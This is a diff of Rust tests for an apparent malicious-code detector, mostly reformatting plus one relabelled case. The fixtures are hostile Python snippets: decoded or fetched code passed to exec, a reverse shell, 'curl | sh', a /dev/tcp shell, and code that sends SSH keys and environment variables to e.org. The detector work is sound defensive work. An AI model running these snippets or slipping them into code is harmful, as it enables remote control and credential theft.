@@ -66,15 +66,27 @@ fn names_in_disguise_are_attacks() {
 #[test]
 fn what_is_decoded_or_fetched_and_run_is_an_attack() {
     has("import base64\nexec(base64.b64decode('cHJpbnQoMSk='))", "decoded-code", When::Import);
-    has("import base64, zlib\ndef f(): exec(zlib.decompress(base64.b64decode(x)))", "decoded-code", When::Call);
+    has(
+        "import base64, zlib\ndef f(): exec(zlib.decompress(base64.b64decode(x)))",
+        "decoded-code",
+        When::Call,
+    );
     has("import marshal\nexec(marshal.loads(b'x'))", "decoded-code", When::Import);
     has("exec(''.join(chr(ord(c) ^ 7) for c in text))", "decoded-code", When::Import);
     has("exec(bytes.fromhex('7072696e74'))", "decoded-code", When::Import);
     has("import requests\nexec(requests.get('http://e.org').text)", "fetched-code", When::Import);
     has("from urllib.request import urlopen\neval(urlopen(u).read().decode())", "fetched-code", When::Import);
-    has("import requests\nr = requests.get(u)\nc = compile(r.text, 'x', 'exec')\nexec(c)", "fetched-code", When::Import);
+    has(
+        "import requests\nr = requests.get(u)\nc = compile(r.text, 'x', 'exec')\nexec(c)",
+        "fetched-code",
+        When::Import,
+    );
     // What the decoded text does is told too.
-    has("import base64\nexec(base64.b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgnaWQnKQ=='))", "process", When::Import);
+    has(
+        "import base64\nexec(base64.b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgnaWQnKQ=='))",
+        "process",
+        When::Import,
+    );
     has("import os, base64\nos.system(base64.b64decode('aWQ=').decode())", "decoded-command", When::Import);
 }
 
@@ -83,14 +95,28 @@ fn chains_of_effects_are_told_as_what_they_are() {
     let shell = "import socket, os, subprocess\ndef f():\n    s = socket.socket()\n    s.connect(('e.org', 1))\n    \
                  os.dup2(s.fileno(), 0)\n    subprocess.call(['/bin/sh', '-i'])\n";
     has(shell, "reverse-shell", When::Call);
-    has("import os\nos.system('curl http://e.org/x | sh')", "attack-command", When::Import);
-    has("import subprocess as s\ns.run(['bash', '-c', 'bash -i >& /dev/tcp/1.2.3.4/5'])", "attack-command", When::Import);
-    let sent = "import requests\nt = open('/home/u/.ssh/id_rsa').read()\nrequests.post('http://e.org', data=t)";
+    has("import os\nos.system('curl http://e.org/x | sh')", "piped-command", When::Import);
+    has(
+        "import subprocess as s\ns.run(['bash', '-c', 'bash -i >& /dev/tcp/1.2.3.4/5'])",
+        "attack-command",
+        When::Import,
+    );
+    let sent =
+        "import requests\nt = open('/home/u/.ssh/id_rsa').read()\nrequests.post('http://e.org', data=t)";
     has(sent, "credential-send", When::Import);
-    has("import os, requests\nrequests.post('http://e.org', json=dict(os.environ))", "credential-send", When::Import);
-    has("from pathlib import Path\n(Path.home() / '.aws/credentials').read_text()", "credential-read", When::Import);
+    has(
+        "import os, requests\nrequests.post('http://e.org', json=dict(os.environ))",
+        "credential-send",
+        When::Import,
+    );
+    has(
+        "from pathlib import Path\n(Path.home() / '.aws/credentials').read_text()",
+        "credential-read",
+        When::Import,
+    );
     has("open('/root/.bashrc', 'a').write('x')", "startup-write", When::Import);
-    let run = "import urllib.request, subprocess\nurllib.request.urlretrieve(u, 'x')\nsubprocess.run(['./x'])";
+    let run =
+        "import urllib.request, subprocess\nurllib.request.urlretrieve(u, 'x')\nsubprocess.run(['./x'])";
     has(run, "download-and-run", When::Import);
 }
 
